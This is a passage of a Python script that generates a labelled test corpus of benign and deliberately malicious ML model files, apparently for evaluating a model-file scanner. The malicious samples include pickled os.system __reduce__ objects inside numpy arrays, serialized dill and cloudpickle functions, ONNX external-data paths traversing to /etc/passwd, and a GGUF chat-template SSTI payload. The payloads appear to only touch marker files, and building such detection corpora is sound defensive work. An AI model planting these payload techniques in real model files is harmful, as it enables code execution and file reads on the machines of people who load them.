        ).fit(m["X"], m["y"])
        c.ben(
            "lightgbm_classifier.pkl",
            pickle.dumps(lg, protocol=4),
            "lightgbm",
            "pickled LGBMClassifier",
            "pickle",
            "full",
        )
        lg.booster_.save_model(os.path.join(td, "model.txt"))
        c.ben(
            "lightgbm_model.txt",
            Path(td, "model.txt").read_bytes(),
            "lightgbm",
            "LightGBM native model.txt",
            "lightgbm-txt",
            "full",
        )


def build_numpy_full(c: Corpus) -> None:
    import numpy as np

    rng = np.random.RandomState(SEED)

    def npsave(arr: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, arr, **kw)
        return buf.getvalue()

    c.ben("numpy_float64.npy", npsave(rng.randn(16, 8)), "npy", "np.save float64", "npy", "full")
    c.ben(
        "numpy_int32.npy",
        npsave(rng.randint(0, 100, (10, 10)).astype(np.int32)),
        "npy",
        "np.save int32",
        "npy",
        "full",
    )
    buf = io.BytesIO()
    np.savez_compressed(buf, w=rng.randn(8, 4).astype(np.float32), b=np.arange(4))
    c.ben(
        "numpy_savez_compressed.npz",
        normalize_zip(buf.getvalue()),
        "npz",
        "np.savez_compressed",
        "npz",
        "full",
    )
    t = "npy_object_array"
    c.mal(
        "numpy_real_object_array.npy",
        npsave(np.array([1, _Payload(c.cmd(t))], dtype=object), allow_pickle=True),
        t,
        "np.save of an object array holding an os.system __reduce__ object",
        "npy",
        "full",
    )
    t = "npz_object_member"
    buf = io.BytesIO()
    np.savez(
        buf,
        w=rng.randn(4).astype(np.float32),
        meta=np.array(["v1", _Payload(c.cmd(t))], dtype=object),
    )
    c.mal(
        "numpy_real_object_member.npz",
        normalize_zip(buf.getvalue()),
        t,
        "np.savez with an object member holding an os.system __reduce__ object",
        "npz",
        "full",
    )


def build_dill_full(c: Corpus) -> None:
    import cloudpickle
    import dill
    import numpy as np

    c.ben(
        "dill_plain_data.pkl",
        dill.dumps({"a": [1, 2, 3], "arr": np.arange(6).reshape(2, 3), "name": "x"}),
        "dill",
        "dill.dumps of plain data and an array",
        "pickle",
        "full",
    )
    t = "dill_lambda"
    fn = eval(f"lambda: open({c.mpath(t)!r}, 'w').close()")  # built, never called
    c.mal(
        "dill_lambda.pkl",
        dill.dumps(fn, recurse=True),
        t,
        "dill.dumps of a lambda that would create the marker (dill._dill._create_code)",
        "pickle",
        "full",
    )
    t = "cloudpickle_function"
    ns: dict[str, Any] = {}
    exec(f"def make_marker():\n    open({c.mpath(t)!r}, 'w').close()\n", ns)  # defines, never calls
    c.mal(
        "cloudpickle_function.pkl",
        cloudpickle.dumps(ns["make_marker"]),
        t,
        "cloudpickle.dumps of a function that would create the marker (_make_function)",
        "pickle",
        "full",
    )


def normalize_keras(data: bytes) -> bytes:
    zf = zipfile.ZipFile(io.BytesIO(data))
    repl = {}
    meta = json.loads(zf.read("metadata.json"))
    meta["date_saved"] = "2020-01-01@00:00:00"
    repl["metadata.json"] = json.dumps(meta).encode()
    cfg = zf.read("config.json").decode()
    ids: dict[str, str] = {}

    def renum(mo: Any) -> str:
        ids.setdefault(mo.group(1), str(len(ids) + 1))
        return f'"shared_object_id": {ids[mo.group(1)]}'

    import re

    repl["config.json"] = re.sub(r'"shared_object_id": (\d+)', renum, cfg).encode()
    return zip_replace_members(data, repl)


def build_keras_full(c: Corpus) -> None:
    import tempfile

    os.environ.setdefault("KERAS_BACKEND", "torch")
    import logging

    import keras

    logging.getLogger("absl").setLevel(logging.ERROR)  # silence the "HDF5 is legacy" notice
    keras.utils.set_random_seed(SEED)
    model = keras.Sequential(
        [
            keras.Input((8,)),
            keras.layers.Dense(16, activation="relu"),
            keras.layers.Dense(4, activation="softmax"),
        ]
    )
    with tempfile.TemporaryDirectory() as td:
        model.save(os.path.join(td, "m.keras"))
        c.ben(
            "keras_sequential.keras",
            normalize_keras(Path(td, "m.keras").read_bytes()),
            "keras_native",
            "keras 3 Sequential(Dense, Dense) .keras",
            "keras",
            "full",
        )
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            model.save(os.path.join(td, "m.h5"))
        c.ben(
            "keras_sequential.h5",
            Path(td, "m.h5").read_bytes(),
            "keras_h5",
            "keras Sequential(Dense, Dense) legacy .h5",
            "keras-h5",
            "full",
        )


def build_onnx_full(c: Corpus) -> None:
    import tempfile

    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    rng = np.random.RandomState(SEED)

    def mlp(name: str) -> Any:
        w1 = numpy_helper.from_array(rng.randn(8, 16).astype(np.float32), "w1")
        b1 = numpy_helper.from_array(np.zeros(16, np.float32), "b1")
        w2 = numpy_helper.from_array(rng.randn(16, 4).astype(np.float32), "w2")
        nodes = [
            helper.make_node("MatMul", ["x", "w1"], ["h"]),
            helper.make_node("Add", ["h", "b1"], ["h2"]),
            helper.make_node("Relu", ["h2"], ["h3"]),
            helper.make_node("MatMul", ["h3", "w2"], ["y"]),
        ]
        g = helper.make_graph(
            nodes,
            name,
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
            [w1, b1, w2],
        )
        return helper.make_model(
            g, opset_imports=[helper.make_opsetid("", 17)], producer_name="dozor-corpus"
        )

    model = mlp("mlp")
    onnx.checker.check_model(model)
    c.ben(
        "onnx_mlp_helper.onnx",
        model.SerializeToString(),
        "onnx_native",
        "onnx.helper MLP",
        "onnx",
        "full",
    )
    with tempfile.TemporaryDirectory() as td:
        onnx.save_model(
            mlp("mlp_ext"),
            os.path.join(td, "model.onnx"),
            save_as_external_data=True,
            all_tensors_to_one_file=True,
            location="weights.bin",
            size_threshold=0,
        )
        c.path("benign/onnx_external_data/model.onnx").write_bytes(
            Path(td, "model.onnx").read_bytes()
        )
        c.path("benign/onnx_external_data/weights.bin").write_bytes(
            Path(td, "weights.bin").read_bytes()
        )
    c.ben(
        "onnx_external_data",
        None,
        "onnx_external",
        "folder: onnx model with external data in ./weights.bin",
        "onnx",
        "full",
    )

    def with_external(location: str) -> bytes:
        t = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1, 4])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            e = t.external_data.add()
            e.key, e.value = k, v
        g = helper.make_graph(
            [helper.make_node("Add", ["x", "w"], ["y"])],
            "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
            [t],
        )
        return helper.make_model(g, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()

    c.mal(
        "onnx_helper_external_traversal.onnx",
        with_external("../../../etc/passwd"),
        "onnx_external_data_traversal",
        "onnx.helper model: external_data location ../../../etc/passwd",
        "onnx",
        "full",
    )
    c.mal(
        "onnx_helper_external_absolute.onnx",
        with_external("/etc/passwd"),
        "onnx_external_data_absolute",
        "onnx.helper model: external_data location /etc/passwd",
        "onnx",
        "full",
    )
    g = helper.make_graph(
        [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib", name="custom")],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    m = helper.make_model(
        g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.contrib", 1)]
    )
    c.mal(
        "onnx_helper_custom_domain.onnx",
        m.SerializeToString(),
        "onnx_custom_domain",
        "onnx.helper model with a PyOp node in custom domain ai.onnx.contrib",
        "onnx",
        "full",
    )


def build_gguf_full(c: Corpus) -> None:
    import tempfile

    import gguf
    import numpy as np

    def write(template: str) -> bytes:
        with tempfile.TemporaryDirectory() as td:
            p = os.path.join(td, "m.gguf")
            w = gguf.GGUFWriter(p, "llama")
            w.add_name("dozor-corpus-tiny")
            w.add_context_length(128)
            w.add_embedding_length(8)
            w.add_block_count(1)
            w.add_tokenizer_model("llama")
            toks = ["<unk>", "<s>", "</s>", "<|im_start|>", "<|im_end|>", "hello", "world", "!"]
            w.add_token_list(toks)
            w.add_token_scores([0.0] * len(toks))
            w.add_token_types([1] * len(toks))
            w.add_bos_token_id(1)
            w.add_eos_token_id(2)
            w.add_chat_template(template)
            w.add_tensor("token_embd.weight", np.arange(64, dtype=np.float32).reshape(8, 8) / 64)
            w.write_header_to_file()
            w.write_kv_data_to_file()
            w.write_tensors_to_file()
            w.close()
            return Path(p).read_bytes()

    c.ben(
        "gguf_chatml.gguf",
        write(CHATML),
        "gguf_native",
        "gguf.GGUFWriter with a ChatML template",
        "gguf",
        "full",
    )
    c.ben(
        "gguf_llama3.gguf",
        write(LLAMA3),
        "gguf_native",
        "gguf.GGUFWriter with a Llama-3 template",
        "gguf",
        "full",
    )
    t = "gguf_ssti_globals"
    c.mal(
        "gguf_writer_ssti.gguf",
        write(
            LLAMA3
            + "{{ self.__init__.__globals__.__builtins__.__import__('os').system('"
            + c.cmd(t).replace("'", "\\'")
            + "') }}"
        ),
        t,
        "gguf.GGUFWriter chat template with self.__init__.__globals__ SSTI",
        "gguf",
        "full",
    )


def build_safetensors_full(c: Corpus) -> None:

    import numpy as np
    import torch
    from safetensors.numpy import save as np_save
    from safetensors.torch import save as torch_save

    torch.manual_seed(SEED)
    sd = torch.nn.Linear(16, 8).state_dict()
    c.ben(
        "safetensors_torch.safetensors",
        torch_save(dict(sd), metadata={"format": "pt"}),
        "safetensors_native",
        "safetensors.torch.save of a Linear",
        "safetensors",
        "full",
    )
    c.ben(
        "safetensors_numpy.safetensors",
        np_save(
            {
                "emb": np.arange(32, dtype=np.float16).reshape(4, 8),
                "ids": np.arange(5, dtype=np.int64),
            }
        ),
        "safetensors_native",
        "safetensors.numpy.save float16+int64",
        "safetensors",
        "full",
    )
    c.ben(
        "bundle_real.tar.gz",
        gz(
            tar_bytes(
                [
                    ("m/model.safetensors", torch_save(dict(sd))),
                    ("m/pytorch_model.bin", torch_bytes(dict(sd))),
                ]
            )
        ),
        "tar_benign",
        "tar.gz of a real safetensors file and a real torch.save file",
        "tar",
        "full",
    )
    c.ben(
        "bundle_real.zip",
        zip_bytes(
            [
                ("m/model.safetensors", torch_save(dict(sd))),
                ("m/config.json", b'{"in": 16, "out": 8}'),
            ],
            zipfile.ZIP_DEFLATED,
        ),
        "zip_benign",
        "zip of a real safetensors file and a config",
        "zip",
        "full",
    )


FULL_BUILDERS = [
    build_torch_full,
    build_sklearn_full,
    build_boosting_full,
    build_numpy_full,
    build_dill_full,
    build_keras_full,
    build_onnx_full,
    build_gguf_full,
    build_safetensors_full,
]
FULL_MODULES = [
    "torch",
    "numpy",
    "sklearn",
    "xgboost",
    "lightgbm",
    "pandas",
    "joblib",
    "dill",
    "cloudpickle",
    "keras",
    "h5py",
    "onnx",
    "gguf",
    "safetensors",
    "py7zr",
]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("outdir", type=Path)
    ap.add_argument(
        "--marker-dir",
        type=Path,
        default=None,
        help="directory the payloads would touch (default: OUTDIR-markers next to OUTDIR)",
    )
    ap.add_argument(
        "--only-stdlib",
        action="store_true",
        help="only files the standard library (plus h5py/py7zr) can build",
    )
    args = ap.parse_args(argv)
    if os.environ.get("PYTHONHASHSEED") != "0" and argv is None:
        # set iteration order leaks into TorchScript code; pin it for reproducible output
        os.execve(
            sys.executable, [sys.executable, *sys.argv], {**os.environ, "PYTHONHASHSEED": "0"}
        )
    out = args.outdir.resolve()
    marker = (args.marker_dir or out.parent / (out.name + "-markers")).resolve()
    if not args.only_stdlib:
        import importlib.util

        missing = [m for m in FULL_MODULES if importlib.util.find_spec(m) is None]
        if missing:
            print(
                f"full mode needs {', '.join(missing)}; install them or pass --only-stdlib",
                file=sys.stderr,
            )
            return 2
    for sub in ("malicious", "benign"):
        shutil.rmtree(out / sub, ignore_errors=True)
    out.mkdir(parents=True, exist_ok=True)
    marker.mkdir(parents=True, exist_ok=True)
    c = Corpus(out, marker, args.only_stdlib)
    for b in STDLIB_BUILDERS:
        b(c)
    if not args.only_stdlib:
        for b in FULL_BUILDERS:
            b(c)
    entries = sorted(c.entries, key=lambda e: e["file"])
    (out / "manifest.json").write_text(json.dumps(entries, indent=1) + "\n")
    n_mal = sum(e["label"] == "malicious" for e in entries)
    print(
        f"{out}: {n_mal} malicious, {len(entries) - n_mal} benign "
        f"({len({e['technique'] for e in entries if e['label'] == 'malicious'})} malicious techniques); "
        f"markers would go to {marker}"
    )
    for s in c.skipped:
        print("skipped:", s, file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
